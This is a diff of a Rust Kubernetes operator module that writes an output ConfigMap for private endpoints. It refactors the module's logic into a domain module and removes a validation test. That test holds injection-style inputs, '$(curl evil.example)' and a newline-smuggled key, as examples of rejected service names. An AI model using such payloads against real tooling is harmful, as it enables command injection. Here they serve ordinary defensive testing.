@@ -1,14 +1,11 @@
-//! The output ConfigMap: the fields of an endpoint that other tools read.
+//! Reads and writes the output ConfigMap. What it holds, and when it is written, kept and removed, is in `domain::output`.
 //!
-//! It exists only while it has content, because a tool that finds an empty value substitutes it. The object owns it, so that it
-//! is deleted with the object. Its name is recorded on the object before it is created, so that it is also deleted when the spec
-//! names another one. A ConfigMap that the operator did not create is never changed, whichever object names it.
+//! The object owns it, so that it is deleted with the object.
 
 use std::collections::BTreeMap;
 
-use domain::conditions::Report;
-use domain::endpoint::{EndpointStatus, is_service_name};
 use domain::message::Message;
+use domain::output::{self, Change, Content, Existing};
 use k8s_openapi::api::core::v1;
 use k8s_openapi::apimachinery::pkg::apis::meta::v1::ObjectMeta;
 use kube::{Resource, ResourceExt};
@@ -22,39 +19,12 @@ use super::decode::ConfigMap;
 /// The label that lets Flux react to a change immediately.
 const FLUX_WATCH: (&str, &str) = ("reconcile.fluxcd.io/watch", "Enabled");
 
-/// The key of the private SRV address.
-const SRV_ADDRESS: &str = "privateSrvAddress";
-
 /// Why the ConfigMap does not have the content that it should.
 pub(super) type Problem = Message;
 
 /// Returns `true` if the object declares an output ConfigMap, or has one.
 pub(super) fn is_concerned(object: &ServerlessPrivateEndpoint) -> bool {
     object.spec.output_config_map.is_some() || noted(object).is_some()
-}
-
-/// Returns the entries of the ConfigMap; none if it should not exist. The keys are names that Flux can substitute.
-pub(super) fn content(report: &Report, srv_address: Option<String>) -> BTreeMap<String, String> {
-    let Some(endpoint) = report.endpoint.as_ref().filter(|_| !report.lost) else { return BTreeMap::new() };
-    // A name that AWS cannot have assigned is left out, because other tools put these values into commands and manifests.
-    let service = endpoint.service_name.clone().filter(|name| is_service_name(name));
-    let Some(service) = service.filter(|_| endpoint.status != EndpointStatus::Deleting) else {
-        return BTreeMap::new();
-    };
-    let entries = [
-        ("id", Some(endpoint.id.to_string())),
-        ("region", region(&service)),
-        ("endpointServiceName", Some(service)),
-        ("cloudProviderEndpointId", endpoint.vpc_endpoint_id.clone()),
-        (SRV_ADDRESS, srv_address),
-    ];
-    entries.into_iter().filter_map(|(key, value)| Some((key.to_owned(), value?))).collect()
-}
-
-/// Returns the AWS region in `com.amazonaws.vpce.<region>.vpce-svc-…`.
-fn region(service: &str) -> Option<String> {
-    let region = service.strip_prefix("com.amazonaws.vpce.")?.split('.').next()?;
-    (!region.is_empty()).then(|| region.to_owned())
 }
 
 /// Returns the recorded name of the object's ConfigMap, if it is a valid name: any user may write the annotation.
@@ -105,13 +75,6 @@ pub(super) async fn read(
     }
 }
 
-/// Returns the private SRV address that the ConfigMap already holds for this VPC endpoint.
-pub(super) fn noted_address(found: Option<&ConfigMap>, vpc_endpoint: &str) -> Option<String> {
-    let data = &found?.data;
-    let same = data.get("cloudProviderEndpointId").is_some_and(|id| id == vpc_endpoint);
-    data.get(SRV_ADDRESS).filter(|_| same).cloned()
-}
-
 /// Gives the ConfigMap `name`, which was just `found`, this `content`, or deletes it if there is none. Its name must be recorded
 /// already.
 ///
@@ -123,29 +86,29 @@ pub(super) async fn keep(
     object: &ServerlessPrivateEndpoint,
     name: &str,
     found: Option<ConfigMap>,
-    content: BTreeMap<String, String>,
+    content: Content,
 ) -> Result<(), Problem> {
     let namespace = &identity.namespace;
-    if found.as_ref().is_some_and(|found| !is_ours(found, identity)) {
-        return if content.is_empty() {
-            Ok(())
-        } else {
-            Err(format!(
+    let existing = match &found {
+        None => Existing::Absent,
+        Some(found) if is_ours(found, identity) => Existing::Own(&found.data),
+        Some(_) => Existing::Foreign,
+    };
+    let result = match (output::change(existing, &content), &found) {
+        (Change::Nothing, _) | (Change::Delete | Change::Fill, None) => return Ok(()),
+        (Change::Taken, _) => {
+            return Err(format!(
                 "ConfigMap {name} exists and was not made for this object; delete it or name another in spec.outputConfigMap"
             )
-            .into())
-        };
-    }
-    let result = match found {
-        None if content.is_empty() => Ok(()),
-        None => {
+            .into());
+        }
+        (Change::Create, _) => {
             let new = new(object, name, content);
             cluster.create_config_map(namespace, &new).await.map_err(|error| ("create", error))
         }
-        Some(found) if content.is_empty() => return delete(cluster, identity, name, &found).await,
-        Some(found) if found.data == content => Ok(()),
-        Some(found) => {
-            let filled = cluster.fill_config_map(namespace, name, &found, &content).await;
+        (Change::Delete, Some(found)) => return delete(cluster, identity, name, found).await,
+        (Change::Fill, Some(found)) => {
+            let filled = cluster.fill_config_map(namespace, name, found, &content).await;
             filled.map_err(|error| ("patch", error))
         }
     };
@@ -166,7 +129,7 @@ fn is_ours(map: &ConfigMap, identity: &Identity) -> bool {
     map.controller.as_deref() == Some(identity.uid.as_str())
 }
 
-fn new(object: &ServerlessPrivateEndpoint, name: &str, content: BTreeMap<String, String>) -> v1::ConfigMap {
+fn new(object: &ServerlessPrivateEndpoint, name: &str, content: Content) -> v1::ConfigMap {
     let (label, value) = FLUX_WATCH;
     v1::ConfigMap {
         metadata: ObjectMeta {
@@ -177,40 +140,5 @@ fn new(object: &ServerlessPrivateEndpoint, name: &str, content: BTreeMap<String,
         },
         data: Some(content),
         ..v1::ConfigMap::default()
-    }
-}
-
-#[cfg(test)]
-mod tests {
-    use domain::endpoint::Endpoint;
-
-    use super::*;
-
-    #[test]
-    fn a_service_name_that_aws_could_not_have_made_stands_in_no_output() {
-        let holds = |service: &str| {
-            let endpoint = Endpoint {
-                id: "5f7cac1adf5d6c6306f4b283".parse().unwrap(),
-                status: EndpointStatus::Available,
-                comment: String::new(),
-                service_name: Some(service.to_owned()),
-                vpc_endpoint_id: None,
-                error_message: None,
-            };
-            let report = Report {
-                endpoint: Some(endpoint),
-                lost: false,
-                unchanged: false,
-                shared: false,
-                conditions: Vec::new(),
-                working: None,
-                after: None,
-            };
-            content(&report, None)
-        };
-        assert_eq!(holds("com.amazonaws.vpce.us-east-1.vpce-svc-1")["region"], "us-east-1");
-        for bad in ["", "$(curl evil.example)", "com.amazonaws.vpce.us-east-1.vpce-svc-1\nid: other"] {
-            assert_eq!(holds(bad), BTreeMap::new(), "{bad:?}");
-        }
     }
 }
